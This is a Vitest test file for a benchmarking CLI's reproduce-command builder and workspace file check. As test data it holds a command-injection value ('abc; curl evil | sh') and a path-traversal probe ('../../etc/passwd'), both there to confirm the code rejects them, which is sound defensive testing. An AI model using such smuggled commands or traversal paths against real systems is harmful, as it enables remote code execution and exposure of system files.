import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { FRAMETAIL_VERSION } from '../runner/header.js';
import { repoFileExists, reproduceCommand } from './pipeline.js';
import { scratchDir } from '../../tests/helpers/scratch.js';

describe('reproduceCommand', () => {
  it('names the base only when it is a plain SHA (an artifact could carry anything)', () => {
    expect(reproduceCommand('.github/frametail.yml', 'abc1234')).toBe(`npx --yes frametail@${FRAMETAIL_VERSION} bench --config .github/frametail.yml --base abc1234`);
    expect(reproduceCommand('.github/frametail.yml', 'abc; curl evil | sh')).toBe(`npx --yes frametail@${FRAMETAIL_VERSION} bench --config .github/frametail.yml`);
    expect(reproduceCommand('f.yml', null)).toBe(`npx --yes frametail@${FRAMETAIL_VERSION} bench --config f.yml`);
  });

  it('runs this version of the published CLI, and quotes a config path the shell would split', () => {
    expect(FRAMETAIL_VERSION).toBe((JSON.parse(readFileSync('package.json', 'utf8')) as { version: string }).version);
    expect(reproduceCommand("bench configs/it's $HOME.yml", null)).toBe(`npx --yes frametail@${FRAMETAIL_VERSION} bench --config 'bench configs/it'\\''s $HOME.yml'`);
  });
});

describe('repoFileExists', () => {
  it('is true for files inside the workspace only', () => {
    const root = scratchDir('ft-ws-');
    mkdirSync(join(root, 'src'));
    writeFileSync(join(root, 'src/a.py'), '');
    const exists = repoFileExists(root);
    expect(exists('src/a.py')).toBe(true);
    expect(exists('src')).toBe(false);
    expect(exists('src/missing.py')).toBe(false);
    expect(exists('../' + root.split('/').at(-1) + '/src/a.py')).toBe(true);
    expect(exists('../../etc/passwd')).toBe(false);
  });
});
